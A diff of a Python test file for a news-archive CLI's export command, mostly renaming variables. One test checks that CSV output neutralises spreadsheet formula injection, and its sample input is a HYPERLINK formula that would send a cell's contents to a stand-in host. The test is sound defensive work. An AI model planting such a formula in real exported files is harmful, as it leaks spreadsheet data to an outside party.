@@ -32,8 +32,8 @@ from newsarchive.dataset.tables import TABLE_COLUMNS, arrow_schema
 SAMPLE = Path(__file__).resolve().parent.parent / "data" / "sample"
 
 
-def run(*words: str) -> Result:
-    return CliRunner().invoke(main, ["export", str(SAMPLE), *words])
+def run(*arguments: str) -> Result:
+    return CliRunner().invoke(main, ["export", str(SAMPLE), *arguments])
 
 
 def test_json_lines_are_the_records_as_stored(tmp_path: Path) -> None:
@@ -71,17 +71,17 @@ def test_csv_has_every_value(tmp_path: Path) -> None:
 def test_a_spreadsheet_gets_no_formula(tmp_path: Path) -> None:
     evil = '=HYPERLINK("http://x.example?"&A1,"xem")'
     folder = store(tmp_path / "archive", [{"title": evil, "section": "@SUM(1)", "byline": "'ngoặc", "body": "-1+2"}])
-    asked = ["export", str(folder), "--format", "csv", "--columns", "title,section,byline,body,lead"]
-    (row,) = list(csv.reader(CliRunner().invoke(main, asked).stdout.splitlines()))[1:]
+    command_line = ["export", str(folder), "--format", "csv", "--columns", "title,section,byline,body,lead"]
+    (row,) = list(csv.reader(CliRunner().invoke(main, command_line).stdout.splitlines()))[1:]
     assert row == [f"'{evil}", "'@SUM(1)", "''ngoặc", "'-1+2", ""]
-    (row,) = list(csv.reader(CliRunner().invoke(main, [*asked, "--csv-raw"]).stdout.splitlines()))[1:]
+    (row,) = list(csv.reader(CliRunner().invoke(main, [*command_line, "--csv-raw"]).stdout.splitlines()))[1:]
     assert row == [evil, "@SUM(1)", "'ngoặc", "-1+2", ""]
 
 
 def test_an_offset_stays_as_it_is_in_csv(tmp_path: Path) -> None:
     folder = store(tmp_path / "archive", [{"title": "+07:00", "published": "2017-09-01T08:00:00+07:00"}])
-    asked = ["export", str(folder), "--format", "csv", "--columns", "title,utc_offset"]
-    assert CliRunner().invoke(main, asked).stdout.splitlines()[1] == "'+07:00,+07:00"
+    command_line = ["export", str(folder), "--format", "csv", "--columns", "title,utc_offset"]
+    assert CliRunner().invoke(main, command_line).stdout.splitlines()[1] == "'+07:00,+07:00"
 
 
 @pytest.mark.parametrize("text", ["\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)"])
@@ -161,7 +161,7 @@ def test_force_replaces_a_dataset(tmp_path: Path) -> None:
         assert run("-o", str(out), "--format", "hf", "--force", "--columns", "id").exit_code == 0
 
 
-def test_an_existing_file_is_kept_unless_force_is_given(tmp_path: Path) -> None:
+def test_an_existing_file_is_not_replaced_without_force(tmp_path: Path) -> None:
     out = tmp_path / "out.csv"
     out.write_text("mine")
     done = run("-o", str(out))
@@ -183,7 +183,7 @@ def test_an_interrupted_export_never_gets_the_final_name(tmp_path: Path) -> None
 
 
 @pytest.mark.parametrize(
-    ("words", "told"),
+    ("arguments", "message"),
     [
         (["--columns", "colour"], "'colour' is not a column"),
         (["-o", "out.docx"], "out.docx: unknown file extension"),
@@ -192,19 +192,19 @@ def test_an_interrupted_export_never_gets_the_final_name(tmp_path: Path) -> None
         (["-o", "/khong/co/out.csv"], "/khong/co: no such folder; create it first"),
     ],
 )
-def test_a_path_that_cannot_be_written_is_named(words: list[str], told: str) -> None:
-    done = run(*words)
+def test_a_path_that_cannot_be_written_is_named(arguments: list[str], message: str) -> None:
+    done = run(*arguments)
     assert done.exit_code in (1, 2)
-    assert told in done.stderr
+    assert message in done.stderr
 
 
 def test_a_missing_library_is_named_with_the_remedy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     real = builtins.__import__
 
-    def without(name: str, *rest: Any, **named: Any) -> Any:
+    def without(name: str, *rest: Any, **kwargs: Any) -> Any:
         if name == "datasets":
             raise ImportError(name)
-        return real(name, *rest, **named)
+        return real(name, *rest, **kwargs)
 
     monkeypatch.setattr(builtins, "__import__", without)
     done = run("-o", str(tmp_path / "out"), "--format", "hf")
